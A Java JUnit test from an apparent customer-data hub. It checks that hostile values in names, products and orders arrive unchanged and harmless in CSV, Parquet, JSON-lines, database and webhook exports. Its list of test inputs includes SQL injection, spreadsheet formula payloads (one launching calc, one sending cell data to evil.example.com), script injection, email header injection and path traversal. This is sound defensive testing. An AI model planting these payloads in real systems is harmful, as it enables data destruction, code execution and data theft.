package io.valuehub.routes.verb;

import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static org.assertj.core.api.Assertions.assertThat;

import blue.strategic.parquet.ParquetReader;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.client.WireMock;
import com.github.tomakehurst.wiremock.core.WireMockConfiguration;
import io.valuehub.analytics.record.CanonicalRecord;
import io.valuehub.connectors.CanonicalReader;
import io.valuehub.connectors.OneLine;
import io.valuehub.routes.TestHub;
import io.valuehub.routes.ledger.FixedClock;
import io.valuehub.routes.ledger.Ledger;
import io.valuehub.routes.ledger.LedgerRows;
import io.valuehub.routes.ledger.Reading;
import io.valuehub.routes.ledger.TestLedger;
import io.valuehub.routes.settings.AudienceField;
import io.valuehub.routes.settings.AudienceSettings;
import java.io.Reader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Currency;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.apache.camel.CamelContext;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * Records that hold, in every text, what somebody would write who wants the hub or whoever reads its files to run it: as SQL,
 * as a formula, as HTML, as a template, as jq, as a Camel expression, as a line of its own. They go the whole way in and out by
 * file, table and webhook; what arrives is what was written, and nothing else happened. Emails are held to the same in
 * {@code ConformanceTest}, records of a CRM in {@code WriteBackTest}.
 */
class HostileValuesTest {

    private static final List<String> HOSTILE = List.of(
            "'; drop table people; --",
            "\" or 1=1; delete from actions; --",
            "$1 ? :name {d '2026-01-01'} %s",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(1+1)",
            "\t=1+1",
            "\u200b=1+1",
            "=HYPERLINK(\"http://evil.example.com?\"&A1,\"x\")",
            "<script>alert(1)</script>",
            "{{unsubscribeUrl}}{{=<% %>=}}",
            "\\(.person) | env | input \" + 1",
            "\"} , {\"person\": 1, \"email\": \"eve@example.com",
            "${body} ${bean:x} #{1+1} {{shop.url}} RAW(x)&y=1",
            "a\r\nBcc: eve@example.com",
            "a,b;c\td|e\"f\"\r\ng,h",
            "\u001b[2J\u001b]0;x\u0007",
            "\u0000nul",
            "../../../etc/passwd");

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final CanonicalReader READER = new CanonicalReader(Currency.getInstance("EUR"));

    private final FixedClock clock = new FixedClock("2026-05-01T10:00:00Z");

    @TempDir
    private Path folder;

    @ParameterizedTest
    @EnumSource(names = {"H2", "POSTGRES"})
    void leaveAsTheyCame(TestLedger database) throws Exception {
        Ledger ledger = database.open();
        List<String> tables = tables(ledger);
        Reading.of(ledger, clock).read(records());
        LedgerRows rows = new LedgerRows(ledger, clock);
        List<Long> people = ledger.jdbc()
                .sql("select id from people order by email")
                .query(Long.class)
                .list();
        assertThat(people).hasSameSizeAs(HOSTILE);
        people.forEach(person -> rows.consent(person, "OPTED_IN"));
        ledger.inTransaction(() -> rows.scored(Map.of("vips", people)));
        WireMockServer outside =
                new WireMockServer(WireMockConfiguration.options().dynamicPort());
        outside.start();
        outside.stubFor(any(anyUrl()).willReturn(okJson("{}")));
        String warehouse = "jdbc:h2:mem:hostile" + folder.hashCode() + ";DB_CLOSE_DELAY=-1";
        try (Connection target = DriverManager.getConnection(warehouse);
                Statement statement = target.createStatement()) {
            statement.execute("create table vips (person bigint primary key, email varchar(1000),"
                    + " first_name varchar(1000), last_name varchar(1000), country varchar(1000))");
            statement.execute("create table people (id int)");
            TestHub hub = hub(warehouse, outside.baseUrl());
            try (CamelContext context = hub.start(ledger, clock)) {
                assertThat(new Export(hub.hub(ledger, clock)).named(context, List.of()))
                        .hasSize(5)
                        .allSatisfy(result -> assertThat(result.stopped()).isEmpty())
                        .allSatisfy(result -> assertThat(result.rows()).isEqualTo(HOSTILE.size()));
            }
            isAsWritten(ofTable(statement));
            isAsWritten(ofWebhook(outside));
            statement.execute("drop table people");
        } finally {
            outside.stop();
        }
        isAsWritten(ofLines());
        isAsWritten(ofParquet());
        isAsWritten(ofCsv());
        assertThat(tables(ledger)).isEqualTo(tables);
    }

    /** Each in every text of a customer, an order and a product. */
    private static CanonicalRecord[] records() {
        List<CanonicalRecord> records = new ArrayList<>();
        for (int i = 0; i < HOSTILE.size(); i++) {
            String hostile = HOSTILE.get(i);
            String id = i + hostile.replace("\0", "");
            String email = email(i);
            records.add(read("product", id, product -> product.put("sku", hostile)
                    .put("title", hostile)
                    .put("url", hostile)
                    .put("image", hostile)
                    .putArray("categories")
                    .add(hostile)));
            records.add(read("customer", id, customer -> customer.put("email", email)
                    .put("firstName", hostile)
                    .put("lastName", hostile)
                    .put("phone", hostile)
                    .put("country", hostile)
                    .put("language", hostile)
                    .putObject("attributes")
                    .put(hostile, hostile)));
            records.add(read("order", id, order -> {
                order.put("customer", id)
                        .put("email", email)
                        .put("number", hostile)
                        .put("status", "PAID")
                        .put("placedAt", "2026-03-01T10:00:00Z")
                        .put("revenue", "20.00")
                        .put("country", hostile);
                order.putArray("coupons").add(hostile);
                order.putObject("source").put("channel", hostile).put("campaign", hostile);
                order.putArray("lines")
                        .addObject()
                        .put("product", id)
                        .put("sku", hostile)
                        .put("title", hostile)
                        .put("quantity", "1")
                        .put("revenue", "20.00");
            }));
        }
        return records.toArray(CanonicalRecord[]::new);
    }

    private static CanonicalRecord read(String type, String id, Consumer<ObjectNode> fields) {
        ObjectNode json = JSON.createObjectNode().put("type", type).put("id", id);
        fields.accept(json);
        return READER.read(json, "my-shop");
    }

    private TestHub hub(String warehouse, String url) {
        TestHub hub = new TestHub()
                .in(folder)
                .connection("files", "files", Map.of("folder", "exports", "format", "csv"))
                .connection("lines", "files", Map.of("folder", "exports", "format", "json-lines"))
                .connection("lake", "files", Map.of("folder", "exports", "format", "parquet"))
                .connection("warehouse", "jdbc", Map.of("url", warehouse))
                .connection(
                        "bi",
                        "outgoing-webhook",
                        Map.of("url", url + "/in", "secret", "a key of the hub, 24 characters and more"));
        for (String to : List.of("files", "lines", "lake", "warehouse", "bi")) {
            hub.audience(new AudienceSettings(
                    "vips-" + to,
                    "vips",
                    Optional.empty(),
                    to,
                    "vips",
                    List.of(
                            AudienceField.EMAIL,
                            AudienceField.FIRST_NAME,
                            AudienceField.LAST_NAME,
                            AudienceField.COUNTRY),
                    Optional.empty()));
        }
        return hub;
    }

    /** First name, last name and country by address. */
    private static void isAsWritten(Map<String, List<String>> arrived) {
        assertThat(arrived).hasSize(HOSTILE.size());
        for (int i = 0; i < HOSTILE.size(); i++) {
            String written = written(HOSTILE.get(i));
            assertThat(arrived.get(email(i))).as(HOSTILE.get(i)).containsExactly(written, written, written);
        }
    }

    private static String written(String hostile) {
        return OneLine.of(hostile);
    }

    private static String email(int number) {
        return "p%02d@example.com".formatted(number);
    }

    private static Map<String, List<String>> ofTable(Statement statement) throws Exception {
        Map<String, List<String>> arrived = new TreeMap<>();
        try (ResultSet rows = statement.executeQuery("select * from vips")) {
            while (rows.next()) {
                arrived.put(rows.getString("email"), texts(rows::getString));
            }
        }
        return arrived;
    }

    private static Map<String, List<String>> ofWebhook(WireMockServer outside) throws Exception {
        Map<String, List<String>> arrived = new TreeMap<>();
        JsonNode sent = JSON.readTree(
                outside.findAll(WireMock.anyRequestedFor(anyUrl())).get(0).getBodyAsString());
        for (JsonNode record : sent.path("records")) {
            JsonNode fields = record.has("email") ? record : record.path("fields");
            arrived.put(fields.path("email").asText(), texts(name -> fields.path(name)
                    .asText()));
        }
        return arrived;
    }

    private Map<String, List<String>> ofLines() throws Exception {
        Map<String, List<String>> arrived = new TreeMap<>();
        for (String line : Files.readAllLines(folder.resolve("exports/vips.jsonl"))) {
            JsonNode row = JSON.readTree(line);
            arrived.put(row.path("email").asText(), texts(name -> row.path(name).asText()));
        }
        return arrived;
    }

    private Map<String, List<String>> ofParquet() throws Exception {
        Map<String, List<String>> arrived = new TreeMap<>();
        try (Stream<String[]> rows = ParquetReader.streamContentToStrings(
                folder.resolve("exports/vips.parquet").toFile())) {
            rows.forEach(row -> {
                Map<String, String> cells = new TreeMap<>();
                Arrays.stream(row).forEach(cell -> cells.put(cell.split("=", 2)[0], cell.split("=", 2)[1]));
                arrived.put(cells.get("email"), texts(cells::get));
            });
        }
        return arrived;
    }

    /** A spreadsheet is shown an apostrophe before what it would run; nothing else is changed. */
    private Map<String, List<String>> ofCsv() throws Exception {
        Map<String, List<String>> arrived = new TreeMap<>();
        try (Reader file = Files.newBufferedReader(folder.resolve("exports/vips.csv"))) {
            for (CSVRecord row : CSVFormat.RFC4180
                    .builder()
                    .setHeader()
                    .setSkipHeaderRecord(true)
                    .get()
                    .parse(file)) {
                row.forEach(cell -> assertThat(cell).doesNotContainPattern("^[\\p{Cc}\\p{Cf}\\p{Z}]*[=+@-]"));
                arrived.put(row.get("email"), texts(name -> row.get(name).replaceFirst("^'(?=.?[=+@-])", "")));
            }
        }
        return arrived;
    }

    private interface Cells {
        String text(String name) throws Exception;
    }

    private static List<String> texts(Cells cells) {
        return Stream.of("first_name", "last_name", "country")
                .map(name -> {
                    try {
                        return cells.text(name);
                    } catch (Exception e) {
                        throw new AssertionError(name, e);
                    }
                })
                .toList();
    }

    private static List<String> tables(Ledger ledger) {
        return ledger.jdbc()
                .sql(
                        "select lower(table_name) from information_schema.tables where table_type like '%TABLE' order by 1")
                .query(String.class)
                .list();
    }
}
